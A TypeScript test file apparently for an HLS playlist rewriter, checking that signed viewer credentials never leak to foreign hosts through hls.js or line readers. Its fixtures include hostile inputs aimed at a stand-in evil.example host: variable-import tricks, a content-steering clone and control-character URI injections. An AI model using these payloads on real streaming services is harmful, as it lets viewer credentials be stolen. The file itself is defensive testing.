import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { URI_ATTRIBUTES } from '../../src/hls/index.js';
import { rewritePlaylistDetailed } from '../../src/rewriter/index.js';
import type { RewriteOptions } from '../../src/rewriter/index.js';
import { ALLOW_HOSTS, CREDS, VIEWER_URL } from './oracle.js';
import { hlsJsLeak, leakIn, lineReaderLeak, playWithHlsJs, whatwgLeak } from './readers.js';
import type { Served } from './readers.js';

// What players do beyond reading one document: hls.js playing a multivariant playlist and its media playlists (each
// rewritten for the URL hls.js asks for, as the edge does), following a steering manifest, and a line reader that
// ends lines at CR as ffmpeg and ExoPlayer do. Each attack is first shown to leak under a writer without the host
// rule and the reading rules (so the harness can see it), then shown not to leak through the rewriter.

const TITLE = 'https://example.com/movies/42/';
const OPTIONS = { allowHosts: [...ALLOW_HOSTS] };

/** A writer without the host rule or the reading rules: credentials after every URI line and URI="..." value. */
function brokenWriter(text: string): string {
  return text.split('\n').map((line) => (line.startsWith('#') ? line.replace(/URI="([^"]*)"/g, `URI="$1?${CREDS}"`) : line === '' ? line : `${line}?${CREDS}`)).join('\n');
}

/** The edge, in memory: each playlist of `documents` (by path under TITLE) rewritten for the URL requested. */
function edge(documents: Record<string, string | { json: unknown }>, write: 'rewriter' | 'broken', options: Partial<RewriteOptions> = {}) {
  return (url: string): Served => {
    const path = url.slice(0, url.indexOf('?') === -1 ? undefined : url.indexOf('?'));
    if (!path.startsWith(TITLE)) return { status: 404 };
    const doc = documents[path.slice(TITLE.length)];
    if (doc === undefined) return { status: 404 };
    if (typeof doc !== 'string') return doc;
    if (write === 'broken') return brokenWriter(doc);
    const out = rewritePlaylistDetailed(doc, { url, ...OPTIONS, ...options });
    return out.refused !== undefined ? { status: 502 } : out.text;
  };
}

const session = (documents: Parameters<typeof edge>[0], write: 'rewriter' | 'broken', options?: Partial<RewriteOptions>) =>
  playWithHlsJs(VIEWER_URL, edge(documents, write, options), { windowMs: 1_500 }).then((reading) => leakIn(reading, VIEWER_URL));

const MEDIA = (lines: string) => `#EXTM3U\n#EXT-X-VERSION:11\n#EXT-X-TARGETDURATION:4\n${lines}\n#EXTINF:4,\nlast.ts\n#EXT-X-ENDLIST\n`;

/** Attacks that need more than one document: [name, documents keyed by path under TITLE]. */
const SESSIONS: Array<[string, Record<string, string | { json: unknown }>]> = [
  ['an IMPORT that overwrites a local definition with the parent\'s value', {
    'master.m3u8': '#EXTM3U\n#EXT-X-VERSION:11\n#EXT-X-DEFINE:NAME="h",VALUE="//evil.example"\n#EXT-X-STREAM-INF:BANDWIDTH=1\nv1/index.m3u8\n',
    'v1/index.m3u8': MEDIA('#EXT-X-DEFINE:NAME="h",VALUE="p"\n#EXT-X-DEFINE:IMPORT="h"\n#EXTINF:4,\n{$h}/a.ts'),
  }],
  ['a scheme-like prefix completed by an imported value', {
    'master.m3u8': '#EXTM3U\n#EXT-X-VERSION:11\n#EXT-X-DEFINE:NAME="x",VALUE=":"\n#EXT-X-STREAM-INF:BANDWIDTH=1\nv1/index.m3u8\n',
    'v1/index.m3u8': MEDIA('#EXT-X-DEFINE:IMPORT="x"\n#EXTINF:4,\n1a{$x}/a.ts'),
  }],
  ['content steering cloning every pathway onto another host', {
    'master.m3u8': '#EXTM3U\n#EXT-X-CONTENT-STEERING:SERVER-URI="steer.json",PATHWAY-ID="a"\n#EXT-X-STREAM-INF:BANDWIDTH=1,PATHWAY-ID="a"\nv1/index.m3u8\n',
    'v1/index.m3u8': MEDIA(''),
    'steer.json': { json: { VERSION: 1, TTL: 300, 'PATHWAY-PRIORITY': ['b', 'a'], 'PATHWAY-CLONES': [{ 'BASE-ID': 'a', ID: 'b', 'URI-REPLACEMENT': { HOST: 'evil.example' } }] } },
  }],
];

describe('the real hls.js over a whole session (multivariant, media playlists, steering manifest)', () => {
  for (const [name, documents] of SESSIONS) {
    it(`sees the leak of a broken writer, and none through the rewriter: ${name}`, async () => {
      expect(await session(documents, 'broken')).toMatch(/evil\.example|player\.example/);
      expect(await session(documents, 'rewriter')).toBeUndefined();
    });
  }

  it('plays steering to an allowed host when the operator names it, and refuses the playlist otherwise', async () => {
    const documents: Record<string, string | { json: unknown }> = { ...SESSIONS[2]![1], 'steer.json': { json: { VERSION: 1, TTL: 300, 'PATHWAY-PRIORITY': ['b', 'a'], 'PATHWAY-CLONES': [{ 'BASE-ID': 'a', ID: 'b', 'URI-REPLACEMENT': { HOST: 'priv.example.com' } }] } } };
    const master = documents['master.m3u8'] as string;
    expect(rewritePlaylistDetailed(master, { url: VIEWER_URL, ...OPTIONS }).refused).toBe('content-steering');
    const allowed = { steeringHosts: ['priv.example.com'] };
    expect(rewritePlaylistDetailed(master, { url: VIEWER_URL, ...OPTIONS, ...allowed }).refused).toBeUndefined();
    const reading = await playWithHlsJs(VIEWER_URL, edge(documents, 'rewriter', allowed), { windowMs: 1_500 });
    expect(leakIn(reading, VIEWER_URL)).toBeUndefined();
    expect(reading.requested.some((u) => u.startsWith('https://priv.example.com/') && u.includes('Signature='))).toBe(true);
  });
});

/** Terminators some reader splits at and controls some reader strips: each is put inside every URI tag. */
const BREAKERS = ['\r', '\u2028', '\u2029', '\u0085', '\u0000', '\u000b', '\u000c', '\u001b', '\u001f', '\t'];

/** A URI tag with each of its URI attributes, and a foreign URL after a breaker at `at` (a character offset). */
const taggedLine = fc
  .tuple(fc.constantFrom(...URI_ATTRIBUTES.keys()), fc.constantFrom(...BREAKERS), fc.nat(), fc.boolean())
  .map(([tag, breaker, at, quoted]) => {
    const attributes = [...URI_ATTRIBUTES.get(tag)!.keys()].map((name) => `${name}="k.bin"`);
    const line = `#${tag}:METHOD=AES-128,${attributes.join(',')},X-NOTE="n"`;
    const payload = `${breaker}https://evil.example/x.ts?${quoted ? '"' : ''}`;
    const offset = line.indexOf(':') + 1 + (at % (line.length - line.indexOf(':')));
    return line.slice(0, offset) + payload + line.slice(offset);
  });

describe('every terminator and control character inside every URI tag and attribute', () => {
  it('a CR/LF line reader sees the leak a broken writer makes of a CR inside a tag', () => {
    const text = MEDIA('#EXT-X-KEY:METHOD=AES-128,X-NOTE="\rhttps://evil.example/x.ts?",URI="k.bin"\n#EXTINF:4,\na.ts');
    expect(lineReaderLeak(brokenWriter(text), VIEWER_URL)).toMatch(/evil\.example/);
  });

  it('never lets hls.js, WHATWG URL or a CR/LF line reader send a credential elsewhere, and the check refuses the broken writer', async () => {
    let refused = 0;
    await fc.assert(
      fc.asyncProperty(fc.array(taggedLine, { minLength: 1, maxLength: 3 }), async (lines) => {
        const text = MEDIA(`${lines.join('\n#EXTINF:4,\nseg.ts\n')}\n#EXTINF:4,\na.ts`);
        const out = rewritePlaylistDetailed(text, { url: VIEWER_URL, ...OPTIONS });
        if (out.refused !== undefined) {
          refused++;
          expect(out.refused).not.toBe('failed-check');
          expect(out.text).toBe('');
          return;
        }
        expect(lineReaderLeak(out.text, VIEWER_URL)).toBeUndefined();
        expect(whatwgLeak(out.text, VIEWER_URL)).toBeUndefined();
        expect(await hlsJsLeak(out.text, VIEWER_URL)).toBeUndefined();
      }),
      { numRuns: 120 },
    );
    // Every breaker but TAB refuses the playlist; TAB only withholds the URI it sits in.
    expect(refused).toBeGreaterThan(0);
  });
});
